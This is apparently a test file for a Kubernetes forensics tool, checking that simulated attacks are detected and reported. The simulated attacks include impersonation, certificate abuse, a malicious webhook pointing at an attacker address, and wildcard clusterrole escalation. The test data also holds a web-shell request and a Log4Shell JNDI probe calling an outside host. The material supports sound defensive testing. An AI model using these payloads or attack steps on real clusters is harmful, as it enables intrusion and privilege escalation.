"""An attacker who acts with the names of others: who did it is told with both names, who was
impersonated was not at the attacker's address, and what the attacker took away is gone."""
import json
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from made_cases import Case, lines  # noqa: E402
from made_responses import INSIDE, policy  # noqa: E402
from test_kube_reach import STOLEN, WEB, Reach, shop  # noqa: E402

NAMES = ("system:admin", "system:node:n1", "ann", "ben", "cleo")


class Lent(Reach):
    """The token of the pod is used from where mia works, who impersonates five others."""

    def setUp(self):
        c = Case("lent", "2026-05-12")
        c.request(0, WEB, "get", "configmaps shop/web", agent="web/1.0", source="10.8.2.9",
                  groups=INSIDE)
        c.request(600, WEB, "list", "pods shop/", **STOLEN)
        digger = {"kind": "Pod", "apiVersion": "v1",
                  "metadata": {"name": "digger", "namespace": "shop"},
                  "spec": {"containers": [{"name": "c", "image": "i"}]}}
        for i, name in enumerate(NAMES):
            c.request(660 + i, "mia", "list", "secrets shop/", source=STOLEN["source"])
            c.audit[-1][1]["impersonatedUser"] = {"username": name, "groups": []}
        for at, verb, name in ((700, "create", "digger"), (720, "create", "stays"),
                               (760, "delete", "digger")):
            body = {**digger, "metadata": {"name": name, "namespace": "shop"}}
            c.request(at, "mia", verb, f"pods shop/{name}", source=STOLEN["source"],
                      body=body if verb == "create" else None)
            c.audit[-1][1]["impersonatedUser"] = {"username": NAMES[0], "groups": []}
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records())})

    def test_only_who_was_there_worked_from_there(self):
        found = self.found("kube.account-from-attackers-address")
        self.assertEqual([f["subject"] for f in found], ["mia"])

    def test_who_acted_is_told_with_the_name_that_was_used(self):
        self.assertIn("mia as system:admin listed secrets of namespace shop", self.summary)
        self.assertNotIn("\n  - system:admin", self.summary)

    def test_what_the_attacker_took_away_does_not_remain(self):
        remains = {r["object"]: r["reverted"]
                   for r in self.documents["containment"]["remains"]}
        self.assertEqual(remains, {"shop/digger": True, "shop/stays": False})
        self.assertEqual([f["subject"] for f in self.found("kube.not-reverted")
                          if f["subject"].startswith("shop/")
                          and f["subject"] in remains], ["shop/stays"])


KCM_SA = "system:serviceaccount:kube-system:clusterrole-aggregation-controller"
BUILD, EVIL = "build@example.org", "198.51.100.200"
PUT = {"spec": {"ephemeralContainers": [{"name": "d", "image": "netshoot"}]}}
HOOK = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "hook"}, "webhooks": [
            {"name": "hook.example.org", "failurePolicy": "Ignore", "clientConfig": {
                "url": "https://198.51.100.200/"}, "rules": [{
                    "operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"],
                    "resources": ["*"]}]}]}


class Certificate(Reach):
    """A request for a certificate is approved and deleted: the certificate goes on."""

    def remains(self, approval):
        c = Case("certificate", "2026-01-20")
        csr = {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
               "metadata": {"name": "x9"}, "spec": {
                   "signerName": "kubernetes.io/kube-apiserver-client"}}
        group = {"group": "certificates.k8s.io"}
        c.request(600, WEB, "create", "certificatesigningrequests x9", 201, body=csr,
                  **group, **STOLEN)
        if approval:
            c.request(610, WEB, "update", "certificatesigningrequests/approval x9",
                      body={**csr, "status": {"conditions": [{"type": approval}]}},
                      **group, **STOLEN)
        c.request(900, "lee", "delete", "certificatesigningrequests x9", source="10.1.1.8", **group)
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records())})
        return {r["object"]: r["reverted"] for r in self.documents["containment"]["remains"]}

    def test_only_what_was_not_signed_is_taken_back(self):
        self.assertEqual(self.remains("Approved"), {"x9": False})
        self.assertEqual(self.remains("Denied"), {"x9": True})
        self.assertEqual(self.remains(None), {"x9": True})


class Governed(Reach):
    """What policies from before the first sign keep closed is closed."""

    def found_of(self, spec):
        c = Case("governed", "2026-08-30")
        old = policy("default", "shop", {"podSelector": {}, **spec})
        old["metadata"]["creationTimestamp"] = "2026-07-01T00:00:00Z"
        c.request(600, WEB, "list", "secrets", **STOLEN)
        c.request(900, "lee", "delete", "pods shop/web-0", source="10.1.1.8")
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records()),
                      "policy.json": json.dumps(old)})
        return (bool(self.found("kube.not-isolated")), bool(self.found("kube.containment-open")))

    def test_all_that_is_left_is_told_and_nothing_else(self):
        dns = {"egress": [{"ports": [{"port": 53, "protocol": "UDP"}]}]}
        both = {"policyTypes": ["Ingress", "Egress"]}
        self.assertEqual(self.found_of({**both, **dns}), (False, True))
        self.assertEqual(self.found_of(both), (False, False))
        self.assertEqual(self.found_of({"policyTypes": ["Ingress"]}), (True, False))


class TwoPlaces(Reach):
    def test_it_is_told_from_the_second_place_on(self):
        c = Case("places", "2026-07-23")
        who = {"groups": INSIDE, "extra": {
            "authentication.kubernetes.io/credential-id": ["JTI=1"],
            "authentication.kubernetes.io/pod-name": ["web-0"]}}
        for i in range(40):
            c.request(60 * i, WEB, "get", "configmaps shop/web", agent="web/1.0",
                      source="10.8.2.9", **who)
        c.request(1830, WEB, "list", "secrets shop/", agent="curl/8.5.0", source="10.8.7.7", **who)
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records())})
        [found] = self.found("audit_token_used_from_two_places")
        self.assertEqual(found["time"][11:19], "10:30:30")


class FirstSign(Reach):
    def story(self, *requests, at=1300, line="POST /uploads/s.php?c=id HTTP/1.1"):
        c = Case("sign", "2026-01-20")
        for time, verb, target in requests:
            c.request(time, WEB, verb, target, agent="kubectl/v1.30.1", source="10.8.2.9",
                      groups=INSIDE)
        log = "".join(f"{c.time(t, 9)} stdout F {text}\n" for t, text in (
            (0, "GET / 200"), (at, line)))
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records()),
                      "web.log": log})
        return self.documents["story"]["first_sign"][11:19]

    def test_a_web_shell_that_a_rule_knows(self):
        self.assertEqual(self.story((1330, "list", "secrets")), "10:21:40")

    def test_a_grave_request_long_before_the_line_counts(self):
        self.assertEqual(self.story((300, "create", "nodes/proxy n1")), "10:05:00")

    def test_others_are_their_own_matter(self):
        self.assertEqual(self.story((300, "create", "selfsubjectrulesreviews")), "10:21:40")

    def test_a_scanners_line_of_the_day_before_does_not(self):
        self.assertEqual(self.story((5000, "create", "nodes/proxy n1"), at=100,
                                    line="GET /?x=${jndi:ldap://198.51.100.9/a} 404"), "11:23:20")


class Debugger(Reach):
    """Somebody puts a container into the pod, attaches to it, and changes admission."""

    def story(self, home, *more):
        c = Case("debugger", "2026-06-18")
        for i in range(10):
            c.request(60 * i, BUILD, "patch", "deployments shop/worker", group="apps",
                      source=home, agent="kubectl/v1.28.4")
        there = {"source": EVIL, "agent": "kubectl/v1.31.0"}
        c.request(1200, BUILD, "patch", "pods/ephemeralcontainers shop/web-0", body=PUT, **there)
        c.request(1240, BUILD, "create", "pods/attach shop/web-0", 101, **there)
        c.request(1300, BUILD, "create", "mutatingwebhookconfigurations hook", 201,
                  group="admissionregistration.k8s.io", body=HOOK, **there)
        for at, agent in more:
            c.request(at, KCM_SA, "patch", "clusterroles edit", group="rbac.authorization.k8s.io",
                      body={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
                      source=EVIL, agent=agent, groups=INSIDE)
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records())})
        return self.documents["story"]["first_sign"]

    def test_what_the_webhook_changed(self):
        c = Case("hook", "2026-06-18")
        c.request(600, WEB, "create", "mutatingwebhookconfigurations hook", 201, body=HOOK,
                  group="admissionregistration.k8s.io", **STOLEN)
        for at, name, by, mutated in ((590, "a", "hook", "true"), (700, "b", "hook", "true"),
                                      (710, "c", "hook", "false"), (720, "d", "istio", "true")):
            c.request(at, "system:serviceaccount:kube-system:replicaset-controller", "create",
                      f"pods shop/{name}", 201, agent="kube-controller-manager/v1.28.9")
            c.audit[-1][1]["annotations"]["mutation.webhook.admission.k8s.io/round_0_index_1"] = (
                f'{{"configuration":"{by}","webhook":"x","mutated":{mutated}}}')
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records())})
        [found] = self.found("kube.changed-by-attackers-webhook")
        self.assertEqual((found["subject"], found["arguments"]["objects"]), ("shop/b", "1"))

    def test_the_container_that_is_put_in_comes_first(self):
        self.assertEqual(self.story(EVIL)[:19], "2026-06-18T10:20:00")
        self.assertEqual([f["subject"] for f in self.found("kube.insider")], [BUILD])

    def test_a_stolen_token_of_a_component_hides_no_address(self):
        first = self.story("20.50.10.5", (1400, "kubectl/v1.31.0"))
        self.assertEqual(first[:19], "2026-06-18T10:20:00")
        self.assertEqual([f["subject"] for f in self.found("kube.account-at-new-place")],
                         [BUILD])

    def test_a_component_that_works_from_there_does(self):
        self.story("20.50.10.5", (1400, "kube-controller-manager/v1.28.9"))
        self.assertEqual(self.found("kube.account-at-new-place"), [])


if __name__ == "__main__":
    unittest.main()
